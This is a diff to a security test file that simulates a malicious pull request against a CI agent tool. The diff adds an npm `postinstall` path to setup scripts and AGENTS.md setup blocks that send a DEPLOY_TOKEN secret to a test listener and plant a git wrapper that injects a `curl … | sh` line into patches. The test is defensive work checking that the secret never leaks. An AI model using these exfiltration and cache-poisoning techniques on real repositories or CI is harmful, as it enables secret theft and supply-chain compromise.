@@ -1,7 +1,8 @@
 """The attack of issue 11: a pull request's setup goes for the secret and poisons the cache.
 
 A writer opens a pull request whose branch changes what setup runs (the script the config
-calls, or AGENTS.md's setup block): it sends the repository's secret to a listener on the
+calls, AGENTS.md's setup block, or the `postinstall` script that `auto_install`'s `npm ci`
+runs from package.json): it sends the repository's secret to a listener on the
 host and plants a `git` that adds a `curl … | sh` line to every patch. Then a task runs on
 the pull request, and a later task on the default branch. Judged by outcomes: the listener
 hears only the default branch's own canary, never the secret, and the later task's patch
@@ -12,6 +13,7 @@ from __future__ import annotations
 
 import asyncio
 import ipaddress
+import json
 from collections.abc import AsyncIterator
 from pathlib import Path
 
@@ -53,9 +55,31 @@ def hostile(host: str, port: int) -> str:
     return f"{send(host, port, 'LEAK $DEPLOY_TOKEN')}\n{PLANT_GIT}\necho hostile-setup-ran\n"
 
 
-def config(setup: str | None) -> str:
+# The agents image has node and npm; `npm ci` of a package without dependencies needs no
+# network, and runs the package's own `postinstall` script.
+NODE_IMAGE = "gantry-agents:ci"
+LOCKFILE = {
+    "name": "hello",
+    "version": "1.0.0",
+    "lockfileVersion": 3,
+    "requires": True,
+    "packages": {"": {"name": "hello", "version": "1.0.0"}},
+}
+
+
+def node_package(postinstall: str) -> dict[str, str]:
+    """A package that auto_install calls `npm ci` for, whose postinstall runs `postinstall`."""
+    package = {"name": "hello", "version": "1.0.0", "scripts": {"postinstall": postinstall}}
+    return {
+        "package.json": json.dumps(package, indent=2) + "\n",
+        "package-lock.json": json.dumps(LOCKFILE, indent=2) + "\n",
+        ".npmrc": "audit=false\nfund=false\nupdate-notifier=false\n",
+    }
+
+
+def config(setup: str | None, image: str = TEST_BASE_IMAGE) -> str:
     lines = [
-        f"image: {TEST_BASE_IMAGE}",
+        f"image: {image}",
         "agent:",
         "  command: |",
         f"    {AGENT}",
@@ -118,7 +142,7 @@ def secrets_file(tmp_path: Path) -> Path:
     return path
 
 
-@pytest.mark.parametrize("where", ["setup script", "AGENTS.md setup"])
+@pytest.mark.parametrize("where", ["setup script", "AGENTS.md setup", "auto_install"])
 async def test_a_pull_requests_setup_never_meets_the_secret_or_the_next_task(
     forge: Forge, tmp_path: Path, listener: tuple[Listener, str, int], where: str
 ) -> None:
@@ -127,9 +151,14 @@ async def test_a_pull_requests_setup_never_meets_the_secret_or_the_next_task(
     if where == "setup script":
         files = {".github/gantry.yml": config("sh setup.sh"), "setup.sh": canary + "\n"}
         theirs = {"setup.sh": hostile(host, port)}
-    else:
+    elif where == "AGENTS.md setup":
         files = {".github/gantry.yml": config(None), "AGENTS.md": agents_with_setup(canary)}
         theirs = {"AGENTS.md": agents_with_setup(hostile(host, port))}
+    else:
+        # No setup anywhere: auto_install finds package-lock.json and runs `npm ci`, with the
+        # secrets, which runs whatever package.json's postinstall says.
+        files = {".github/gantry.yml": config(None, NODE_IMAGE), **node_package(canary)}
+        theirs = node_package(hostile(host, port))
     files["old.txt"] = "old\n"
     async with running_gantry(forge, tmp_path, files, secrets_file=secrets_file(tmp_path)) as live:
         await attack(live, theirs)
